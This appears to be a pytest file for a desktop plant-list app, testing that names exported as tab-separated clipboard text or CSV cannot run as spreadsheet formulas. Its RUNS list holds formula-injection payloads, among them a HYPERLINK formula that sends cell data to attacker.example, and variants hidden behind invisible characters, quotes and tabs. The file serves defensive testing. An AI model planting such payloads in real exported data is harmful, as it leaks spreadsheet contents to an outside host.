"""A plant's name never runs in the spreadsheet that a list is pasted into or opened with."""

import csv
import io
from datetime import UTC, datetime

import pytest
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QPushButton

from plantdesk.desk.lists import ListMade
from plantdesk.domain.plant import NewPlant
from plantdesk.sheets.check_list import CheckLine, comma_separated, tabbed
from tests.ui.conftest import Open
from tests.ui.plants.test_page import Shown, checks

HEADS = ("Plant id", "Name", "Tag", "Store", "Sent at", "Reference")
LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Rosa")'
RUNS = [
    LINK,
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    f" {LINK}",
    f"\u200e{LINK}",
    "\uff1d1+1",
    # A spreadsheet takes the outer quotation marks off what is pasted.
    '"=HYPERLINK(""http://attacker.example"")"',
    f'"\t{LINK}',
    f"Rosa\t{LINK}",
    f"Rosa\n{LINK}",
]


def a_line(text: str) -> CheckLine:
    plant = NewPlant(7, text, text)
    return CheckLine(plant, text, datetime(2026, 3, 3, tzinfo=UTC), "1d7b")


def pasted(text: str) -> list[list[str]]:
    """As a spreadsheet takes text with tabs: a cell may be in quotation marks."""
    return list(csv.reader(io.StringIO(text, newline=""), dialect="excel-tab"))


def runs(cell: str) -> bool:
    shown = "".join(letter for letter in cell if letter.isprintable()).lstrip()
    return shown.startswith(("=", "+", "-", "@", "\uff1d"))


@pytest.mark.parametrize("text", RUNS)
def test_nothing_in_the_copied_list_runs_where_it_is_pasted(text: str) -> None:
    rows = pasted(tabbed([a_line(text)], HEADS))
    assert [len(row) for row in rows] == [6, 6]
    assert not any(runs(cell) for cell in rows[1])


@pytest.mark.parametrize("text", RUNS)
def test_nothing_in_the_saved_list_runs_where_it_is_opened(text: str) -> None:
    content = comma_separated([a_line(text)], HEADS).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert not any(runs(cell) for cell in rows[1])


def test_the_clipboard_gets_the_list_as_plain_text_alone(open_window: Open) -> None:
    window, desk = open_window()
    shown = Shown(window, desk)
    shown.open(checks(7))
    copy = window.findChild(QPushButton, "copyList")
    assert isinstance(copy, QPushButton)
    copy.click()
    text = tabbed([a_line(LINK)], HEADS)
    desk.answer("plants.make_list", ListMade(desk.lists[-1], (a_line(LINK),), text))
    data = QGuiApplication.clipboard().mimeData()
    assert data.formats() == ["text/plain"]
    assert data.text() == text
